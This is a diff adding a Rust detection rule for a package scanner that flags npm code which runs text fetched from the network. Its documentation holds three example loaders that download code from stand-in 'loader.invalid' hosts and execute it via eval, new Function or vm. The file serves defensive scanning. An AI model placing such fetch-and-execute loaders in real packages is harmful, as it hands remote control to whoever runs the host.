@@ -1,0 +1,86 @@
+//! # Text from the network runs as code
+//!
+//! What a host answered reaches `eval`, `Function`, `vm` or a module loader.
+//!
+//! ## Why it matters
+//!
+//! The package then does whatever its author wants, today or next month, and nothing of that is in the
+//! package. This flow stayed the same while Lazarus changed its loader five times.
+//!
+//! ## Known benign uses
+//!
+//! Hardly any in a package: module loaders for browsers in development tools, and sandboxes that fetch a
+//! test. They do it when called, with an address that the caller gives.
+//!
+//! ## Bad
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! const axios = require("axios");
+//! axios.get("https://cdn.loader.invalid/v1").then((reply) => {
+//!   eval(reply.data.cookie); //~ here
+//! });
+//! ```
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
+//! == index.mjs
+//! const reply = await fetch("https://loader.invalid/a");
+//! new Function("require", await reply.text())(globalThis.require); //~ here
+//! ```
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! const { get } = require("node:https");
+//! get("https://loader.invalid/b", (response) => {
+//!   let body = "";
+//!   response.on("data", (chunk) => { body += chunk; });
+//!   response.on("end", () => require("vm").runInThisContext(body)); //~ here
+//! });
+//! ```
+//!
+//! ## Good
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! exports.load = async (address) => JSON.parse(await (await fetch(address)).text());
+//! ```
+//!
+//! ## References
+//!
+//! - Socket: Lazarus Strikes npm Again with New Wave of Malicious Packages (March 2025)
+
+use crate::prelude::*;
+
+/// Text from the network runs as code.
+pub struct RemoteTextEvaluated;
+
+impl Rule for RemoteTextEvaluated {
+    fn meta(&self) -> &'static RuleMeta {
+        &RuleMeta {
+            id: "remote-text-evaluated",
+            title: "Text from the network runs as code",
+            tier: Tier::Source,
+            role: Role::Threat,
+            severity: Level::High,
+            specificity: Level::High,
+            technique: "T1105",
+            covers: &["fetch-then-eval", "function-constructor", "error-body-exec", "dead-drop-json-store"],
+            status: RuleStatus::Stable,
+            since: "0.1.0",
+        }
+    }
+
+    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
+        for flow in facts.flows(|source| matches!(source, Source::Network(_)), |sink| *sink == Sink::Code) {
+            found.flow(flow);
+        }
+    }
+}
